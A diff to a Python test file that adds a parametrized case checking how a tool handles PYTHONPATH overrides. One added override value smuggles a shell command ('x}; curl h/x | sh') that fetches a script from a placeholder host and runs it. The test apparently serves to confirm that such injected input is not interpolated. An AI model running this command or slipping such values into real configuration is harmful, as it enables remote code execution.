@@ -19,6 +19,8 @@ from tests.pipeline.views import view_of
 
 REASON = "; no environment is created, because this Python has torch"
 
+FOLDER_IN_WORDS = "add the folder of the package to PYTHONPATH in `env:`"
+
 
 def project(root: Path, *overrides: str) -> View:
     """Return a project whose script imports two absent modules, with this Python as its interpreter."""
@@ -234,6 +236,7 @@ def found_in(tmp_path: Path, files: dict[str, str], *overrides: str) -> list[tup
         (PACKAGE, (), "src/ of the project", "env: {PYTHONPATH: src}"),
         (BESIDE, (), "the project's folder", "env: {PYTHONPATH: .}"),
         (PACKAGE, ("env.PYTHONPATH=/opt/lib",), "src/ of the project", "env: {PYTHONPATH: /opt/lib:src}"),
+        (PACKAGE, ("env.PYTHONPATH=x}; curl h/x | sh",), "src/ of the project", FOLDER_IN_WORDS),
     ],
 )
 def test_a_package_of_the_project_that_the_job_does_not_search_is_named_before_the_run(
